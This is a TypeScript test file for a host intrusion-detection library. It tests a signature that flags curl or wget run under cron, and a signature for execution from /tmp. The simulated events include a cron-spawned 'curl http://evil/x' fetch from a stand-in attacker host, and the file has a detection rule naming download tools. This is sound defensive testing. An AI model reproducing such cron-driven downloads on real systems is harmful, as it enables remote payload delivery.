/** The examples of marbles/README.md, verbatim but for the import paths. */
import { enrich } from '../src/operators/enrich.js';
import { execFromTempDir } from '../src/signatures/builtin/execFromTempDir.js';
import { eventSignature } from '../src/signatures/eventSignature.js';
import { runSignatures } from '../src/signatures/runSignatures.js';
import type { SignatureMetadata } from '../src/signatures/types.js';
import type { Envelope } from '../src/streams/types.js';
import { finding, marbleTest, testSignature, world } from './index.js';

// ── the signature under test ──
const META: SignatureMetadata = {
  id: 'MY-001',
  name: 'curl piped from a cron job',
  version: '1',
  description: 'curl or wget run by a process whose parent is cron',
  tags: ['linux'],
  properties: { Severity: 2, Category: 'command-and-control', external_id: 'T1105' },
};

const curlUnderCron = eventSignature(META, ['sched_process_exec'], (e) => {
  const p = e.context.process;
  const parent = e.context.ancestors[0];
  if (p === undefined || parent === undefined) return undefined;
  if (!['curl', 'wget'].includes(p.name) || parent.name !== 'cron') return undefined;
  return { tool: p.name, url: p.cmd[1] };
});

// ── the test ──
describe('curlUnderCron', () => {
  it('fires for cron → sh → curl, not for bash → curl', () => {
    const w = world();
    const cron = w.process({ pid: 400, comm: 'cron', exe: '/usr/sbin/cron' });
    const bash = w.process({ pid: 500, comm: 'bash', exe: '/usr/bin/bash' });

    const job = w.fork(cron, { pid: 401 }); // cron forks a child…
    const curl = w.exec(job.child, { path: '/usr/bin/curl', argv: ['curl', 'http://evil/x'] }); // …that execs curl
    const mine = w.fork(bash, { pid: 501 });
    const curl2 = w.exec(mine.child, { path: '/usr/bin/curl', argv: ['curl', 'http://example.com'] });

    marbleTest(({ cold, expectFindings }) => {
      const events$ = cold<Envelope>('-a-b-c-d-|', { a: job.event, b: curl, c: mine.event, d: curl2 });
      const findings$ = events$.pipe(enrich(), runSignatures([curlUnderCron]));
      expectFindings(findings$).toBe('---x-----|', {
        x: finding('MY-001', { pid: 401, comm: 'curl', data: { tool: 'curl', url: 'http://evil/x' } }),
      });
    });
  });
});

describe('testSignature (README)', () => {
  it('PRX-002 fires for /tmp/x, not for /tmpfs-tools/x', () => {
    const w = world();
    const sh = w.process({ pid: 100, comm: 'sh' });
    const k1 = w.fork(sh, { pid: 101 });
    const hit = w.exec(k1.child, { path: '/tmp/x' });
    const k2 = w.fork(sh, { pid: 102 });
    const lookAlike = w.exec(k2.child, { path: '/tmpfs-tools/x' });

    testSignature(
      execFromTempDir(),
      { marbles: '-a-b-c-d-|', values: { a: k1.event, b: hit, c: k2.event, d: lookAlike } },
      { marbles: '---x-----|', values: { x: finding('PRX-002', { pid: 101, data: { reason: 'temp-dir' } }) } },
    );
    testSignature(execFromTempDir(), { marbles: '-c-d-|', values: { c: k2.event, d: lookAlike } }, '-----|'); // must not fire
  });
});
